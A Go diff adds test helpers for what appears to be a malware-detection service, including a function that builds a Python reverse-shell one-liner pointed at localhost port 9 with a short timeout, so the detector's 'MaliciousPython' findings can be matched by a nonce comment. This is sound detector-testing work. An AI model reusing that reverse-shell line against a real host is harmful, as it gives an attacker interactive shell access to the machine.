@@ -138,6 +138,26 @@ func (in *instance) findings(ctx context.Context) ([]finding.Finding, error) {
 	return page.Findings, err
 }
 
+// byLastLine returns the findings about the imitations whose names begin with nonce,
+// by the rest of their names.
+func (in *instance) byLastLine(t *testing.T, nonce string) map[string]finding.Finding {
+	t.Helper()
+	all, err := in.findings(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := make(map[string]finding.Finding)
+	for _, f := range all {
+		if len(f.Process.Args) == 0 || f.Category != finding.MaliciousPython {
+			continue
+		}
+		if _, name, ok := strings.Cut(f.Process.Args[len(f.Process.Args)-1], "# "+nonce); ok {
+			found[name] = f
+		}
+	}
+	return found
+}
+
 // finding returns a whole finding.
 func (in *instance) finding(ctx context.Context, name string) (finding.Finding, error) {
 	var f finding.Finding
@@ -152,6 +172,13 @@ func (in *instance) sensors(ctx context.Context) ([]finding.SensorStatus, error)
 	}
 	err := in.get(ctx, "/sensors", &page)
 	return page.Sensors, err
+}
+
+// imitation is the text of a script that looks like a reverse shell and reaches
+// nobody. It ends in a comment by which byLastLine knows it.
+func imitation(name string) string {
+	return `import socket,os,pty;s=socket.socket();s.settimeout(0.02);s.connect(("127.0.0.1",9));` +
+		`os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh") # ` + name
 }
 
 // await waits until ok returns true.
